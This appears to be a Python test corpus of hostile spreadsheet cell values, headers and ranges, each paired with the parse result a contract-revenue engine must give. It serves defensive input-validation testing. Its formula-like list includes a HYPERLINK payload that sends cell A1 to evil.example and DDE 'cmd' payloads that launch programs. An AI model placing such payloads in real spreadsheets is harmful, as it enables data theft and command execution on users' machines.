"""A seeded corpus of hostile contract cells, headers and ranges, with what each must give.

Every cell value carries its expected meaning for each kind of column:

* ``ERR``: the cell is an input error, reported at its row and column (never a number from partial input);
* ``EITHER``: an error at its row and column, or the same answers as the clean value given with it;
* any other value: the clean cell it is equivalent to (every function answers exactly as for that cell).

A column's kind: required/optional text (IDs, Customer, dimensions), required/optional date, amount, choice.
``cases(seed)`` lists (column, Value) pairs in a seeded order; ``header_cases()`` lists header mutations.
"""
from __future__ import annotations

import datetime as dt
import math
import random
from dataclasses import dataclass, field
from decimal import Decimal

D = dt.datetime

HEADER = ["Contract ID", "Customer", "Line ID", "Booking Date", "Start Date", "End Date", "Amount",
          "Recognition", "Billing", "Billing Timing", "Billing Start", "Region"]
HOSTILE_ROW = 4  # 1-based row of the hostile line in the range (after two clean lines)

# the clean line the hostile value is put into (monthly over 2025, quarterly billing: every metric is non-zero)
CLEAN = {"Contract ID": "C1", "Customer": "Acme", "Line ID": None, "Booking Date": None,
         "Start Date": D(2025, 1, 1), "End Date": D(2025, 12, 31), "Amount": 1200.0, "Recognition": "monthly",
         "Billing": "quarterly", "Billing Timing": "advance", "Billing Start": None, "Region": "EMEA"}

KINDS = {"Contract ID": "text_req", "Customer": "text_req", "Line ID": "text", "Region": "text",
         "Booking Date": "date", "Billing Start": "date", "Start Date": "date_req", "End Date": "date_req",
         "Amount": "amount", "Recognition": "choice", "Billing": "choice", "Billing Timing": "choice"}


class _Marker:
    def __init__(self, name):
        self.name = name

    def __repr__(self):
        return self.name


ERR = _Marker("ERR")
BLANK = _Marker("BLANK")  # a blank cell: an error in a required column, the default otherwise


@dataclass(frozen=True)
class Either:
    clean: object


@dataclass
class Value:
    """A hostile cell value and what it means in each kind of column."""

    label: str
    value: object
    text: object = None  # None: the cell's text (computed by `as_text`)
    date: object = ERR
    amount: object = ERR
    choice: object = ERR
    com_ok: bool = True  # Excel can hold it and COM can hand it over (no NaN, no time-only values...)
    tags: tuple = field(default_factory=tuple)

    def expect(self, column: str):
        kind = KINDS[column]
        if kind.startswith("text"):
            e = self.text if self.text is not None else as_text(self.value)
        elif kind.startswith("date"):
            e = self.date
        elif kind == "amount":
            e = self.amount
        else:
            e = self.choice
        if e is BLANK:
            required = kind in ("text_req", "date_req", "amount")
            return ERR if required else None
        return e


def as_text(value) -> str:
    """The text an ID or dimension cell stands for (an independent statement of the engine's rule)."""
    if isinstance(value, str):
        return value.strip()
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, dt.datetime):
        return value.date().isoformat() if value.time() == dt.time(0) else value.isoformat()
    if isinstance(value, dt.date):
        return value.isoformat()
    return str(value)


# COM error codes (what xlwings' raw converter hands over for an error cell)
COM = {"#N/A": -2146826246, "#REF!": -2146826265, "#DIV/0!": -2146826281, "#VALUE!": -2146826273,
       "#NAME?": -2146826259, "#NUM!": -2146826252, "#NULL!": -2146826288}

_blank = dict(text=BLANK, date=BLANK, amount=BLANK, choice=BLANK)
_err_all = dict(text=ERR, date=ERR, amount=ERR, choice=ERR)
FORMULA_TEXT = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
                "=1+1", "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'", "+1", "-1", "@", "=", ]

VALUES: list[Value] = [
    # blanks and whitespace
    Value("None", None, **_blank),
    Value("empty", "", **_blank),
    Value("spaces", "   ", **_blank),
    Value("tab", "\t", **_blank),
    Value("newline", "\r\n", **_blank),
    Value("nbsp", "\u00a0", **_blank),
    Value("ideographic space", "\u3000", **_blank),
    Value("NaN", float("nan"), **_blank, com_ok=False),
    Value("zero-width space", "\u200b", text=Either("\u200b")),  # invisible, but not whitespace to Python
    # Excel errors, as text and as COM ints
    *[Value(f"error text {e}", e, **_err_all) for e in COM],
    *[Value(f"error text lower {e}", f" {e.lower()} ", **_err_all) for e in ("#n/a", "#ref!")],
    *[Value(f"COM error {e}", code, **_err_all) for e, code in COM.items()],
    # wrong types
    Value("TRUE", True), Value("FALSE", False),
    Value("int 0", 0, amount=0.0), Value("int -1", -1, amount=-1.0), Value("int 7", 7, date=D(1900, 1, 7),
                                                                          amount=7.0, text="7"),
    Value("float 1.5", 1.5, date=D(1900, 1, 1), amount=1.5),
    Value("serial 59", 59.0, date=D(1900, 2, 28), amount=59.0),
    Value("serial 60 (1900 leap bug)", 60.0, amount=60.0),
    Value("serial 61", 61.0, date=D(1900, 3, 1), amount=61.0),
    Value("serial 45658 (2025-01-01)", 45658.0, date=D(2025, 1, 1), amount=45658.0),
    Value("serial max", 2958465.0, date=D(9999, 12, 31), amount=2958465.0),
    Value("serial max+1", 2958466.0, amount=2958466.0),
    Value("1e15", 1e15), Value("-1e15", -1e15), Value("1e13+0.01", 1e13 + 0.01),
    Value("9999999999999.99", Decimal("9999999999999.99"), amount=Either(Decimal("9999999999999.99")),
          com_ok=False),
    Value("float with >2 decimals", 12.345, date=D(1900, 1, 12)),
    Value("float noise", 1199.9999999999998, date=D(1903, 4, 13), amount=1200.0),
    Value("inf", float("inf"), com_ok=False), Value("-inf", float("-inf"), com_ok=False),
    Value("2**70", 2**70, com_ok=False), Value("Decimal", Decimal("12.5"), amount=12.5, com_ok=False),
    Value("time", dt.time(12, 0), com_ok=False), Value("timedelta", dt.timedelta(days=3), com_ok=False),
    Value("bytes", b"C1", com_ok=False),
    # dates as text, many formats and locales
    Value("ISO date text", "2025-03-04", date=D(2025, 3, 4)),
    Value("ISO date text padded", " 2025-03-04 ", date=D(2025, 3, 4)),
    Value("ISO date-time midnight", "2025-03-04T00:00:00", date=D(2025, 3, 4)),
    Value("ISO one-digit month", "2025-3-4", date=D(2025, 3, 4)),
    Value("US 03/04/2025", "03/04/2025"), Value("DE 4.3.2025", "4.3.2025"), Value("2025/03/04", "2025/03/04"),
    Value("March 4, 2025", "March 4, 2025"), Value("4 mars 2025", "4 mars 2025"),
    Value("JP 2025年3月4日", "2025年3月4日"), Value("20250304", "20250304", amount=20250304.0), Value("04-03-2025", "04-03-2025"),
    Value("2025-02-30", "2025-02-30"), Value("2025-13-01", "2025-13-01"), Value("1900-02-29", "1900-02-29"),
    Value("ISO with time 12:30", "2025-03-04 12:30", date=D(2025, 3, 4)),  # the date written (issue 12)
    Value("1899-12-31 text", "1899-12-31"), Value("10000-01-01 text", "10000-01-01"),
    Value("0000-01-01 text", "0000-01-01"),
    Value("Arabic-Indic digits date", "\u0662\u0660\u0662\u0665-\u0660\u0663-\u0660\u0664",
          date=Either(D(2025, 3, 4))),
    # real dates
    Value("datetime", D(2025, 3, 4), date=D(2025, 3, 4)),
    Value("date", dt.date(2025, 3, 4), date=D(2025, 3, 4), com_ok=False),
    Value("datetime 12:30", D(2025, 3, 4, 12, 30), date=D(2025, 3, 4)),
    Value("tz-aware datetime", D(2025, 3, 4, tzinfo=dt.timezone.utc), date=D(2025, 3, 4), text="2025-03-04",
          com_ok=False),
    Value("date 1899-12-31", D(1899, 12, 31)), Value("date 0001-01-01", D(1, 1, 1)),
    Value("date 1900-01-01", D(1900, 1, 1), date=D(1900, 1, 1)),
    Value("date 9999-12-31", D(9999, 12, 31), date=D(9999, 12, 31)),
    # amounts as text
    Value("thousands", "1,234.56", amount=1234.56), Value("accounting negative", "(1,234.56)", amount=-1234.56),
    Value("dollar", "$1,200", amount=1200.0), Value("minus text", "-45.16", amount=-45.16),
    Value("EU decimal comma", "1.234,56"), Value("space thousands", "1 234,56"),
    Value("unicode minus", "\u221245.16"), Value("trailing minus", "45.16-"),
    Value("full-width digits", "\uff11\uff12\uff10\uff10", amount=Either(1200.0)),
    Value("percent", "12%"), Value("exponent text", "1e3", amount=Either(1000.0)),
    Value("nan text", "nan"), Value("inf text", "Infinity"),
    # choices
    Value("choice monthly caps", " MONTHLY ", choice=Either("monthly")),
    Value("choice typo", "montly"),
    # text that looks like a formula
    *[Value(f"formula-like {t!r}", t, amount={"+1": Either(1.0), "-1": -1.0}.get(t, ERR),
            tags=("formula",)) for t in FORMULA_TEXT],
    # long, control and odd text
    Value("long text", "X" * 40_000),
    Value("control chars", "C\x00\x01\x1f1"),
    Value("bidi override", "\u202eevil\u202c"),
    Value("emoji", "\U0001f4b8 Corp"),
    Value("xml-ish", "<f>SUM(A1)</f>&amp;"),
]


def _choice_expectations():
    """Valid choice names are the clean values of the three choice columns (checked per column)."""
    return {"Recognition": {"monthly", "daily", "point in time"}, "Billing": {"upfront", "monthly", "quarterly",
            "semiannual", "annual"}, "Billing Timing": {"advance", "arrears"}}


def expected(column: str, v: Value):
    """What (column, value) must give: ERR, Either(clean), or the clean cell."""
    e = v.expect(column)
    if KINDS[column] == "choice" and isinstance(e, Either):
        names = _choice_expectations()[column]
        return e if e.clean in names else ERR
    return e


def cases(seed: int = 20250601) -> list[tuple[str, Value]]:
    """Every (column, value), in a seeded order (the same every run)."""
    out = [(c, v) for c in HEADER for v in VALUES]
    random.Random(seed).shuffle(out)
    return out


def clean_row(**over) -> list:
    row = dict(CLEAN)
    row.update(over)
    return [row[h] for h in HEADER]


def book(column: str, value) -> list[list]:
    """Two clean lines (C0, C9) and the hostile line on row 4."""
    row = clean_row()
    row[HEADER.index(column)] = value
    return [list(HEADER), clean_row(**{"Contract ID": "C0"}), clean_row(**{"Contract ID": "C9"}), row]


# --- headers ------------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class HeaderCase:
    label: str
    header: tuple
    ok: bool  # the same answers as the clean header
    column: str | None = None  # when not ok: the column the row-1 problem names (in .column or the message)


def _with(i, name):
    h = list(HEADER)
    h[i] = name
    return tuple(h)


AMOUNT = HEADER.index("Amount")
HEADER_CASES = [
    HeaderCase("stray spaces", _with(AMOUNT, "  Amount "), True),
    HeaderCase("nbsp", _with(AMOUNT, "Amount\u00a0"), True),
    HeaderCase("upper case", _with(AMOUNT, "AMOUNT"), True),
    HeaderCase("underscores", _with(AMOUNT, "_amount_"), True),
    HeaderCase("newline inside", _with(HEADER.index("Start Date"), "Start\nDate"), True),
    HeaderCase("ideographic space", _with(AMOUNT, "Amount\u3000"), True),
    HeaderCase("duplicated Amount", tuple(HEADER) + ("Amount",), False, "Amount"),
    HeaderCase("duplicated Region (case, spaces)", tuple(HEADER) + (" region ",), False, "region"),
    HeaderCase("missing Amount", _with(AMOUNT, None), False, "Amount"),
    HeaderCase("misspelt Amount", _with(AMOUNT, "Amout"), False, "Amount"),
    HeaderCase("missing Customer", _with(1, "Client Name"), False, "Customer"),
    HeaderCase("header is #REF!", _with(AMOUNT, "#REF!"), False, "Amount"),
    HeaderCase("header is COM #N/A", _with(AMOUNT, COM["#N/A"]), False, "Amount"),
    HeaderCase("header is a number", _with(AMOUNT, 2025.0), False, "Amount"),
    HeaderCase("full-width Amount", _with(AMOUNT, "\uff21\uff4d\uff4f\uff55\uff4e\uff54"), True),  # NFKC
    HeaderCase("zero-width space in Amount", _with(AMOUNT, "Am\u200bount"), True),  # invisible: ignored
    HeaderCase("formula-like extra header", tuple(HEADER) + ("=HYPERLINK(\"x\")",), True),
]


# --- whole ranges ----------------------------------------------------------------------------------------------

def whole_ranges() -> list[tuple[str, object, str]]:
    """(label, range, expectation): 'zero' (every flow/balance is 0), 'located' (a #BBB! row message)."""
    clean = [list(HEADER), clean_row()]
    return [
        ("header only", [list(HEADER)], "zero"),
        ("header only, trailing blank rows", [list(HEADER), [None] * 12, [""] * 12], "zero"),
        ("header then blank rows and columns", [list(HEADER) + [None, None]] + [[None] * 14] * 3, "zero"),
        ("empty list", [], "located"),
        ("None", None, "located"),
        ("one blank cell", [[None]], "located"),
        ("one row of blanks", [[None] * 12], "located"),
        ("header cell only", [["Contract ID"]], "located"),
        ("data without header", [clean_row()], "located"),
        ("ragged rows", [list(HEADER), clean_row()[:5], clean_row() + ["extra"]], "located"),
        ("tuple of tuples", tuple(tuple(r) for r in clean), "number"),
        ("hidden duplicate of the data as the header", [clean_row(), clean_row()], "located"),
    ]


def random_cell(rng: random.Random):
    """A random hostile cell (seeded): any corpus value, a random number, date or text."""
    pick = rng.random()
    if pick < 0.6:
        return rng.choice(VALUES).value
    if pick < 0.7:
        return rng.uniform(-1e16, 1e16)
    if pick < 0.8:
        return D(rng.randint(1, 9999), rng.randint(1, 12), rng.randint(1, 28))
    if pick < 0.9:
        return "".join(rng.choice("=+-@\t\r 0123456789,.()$#/:AZaz\u00a0\u200b") for _ in range(rng.randint(0, 12)))
    return rng.choice([None, True, False, 0, math.pi, -0.0])
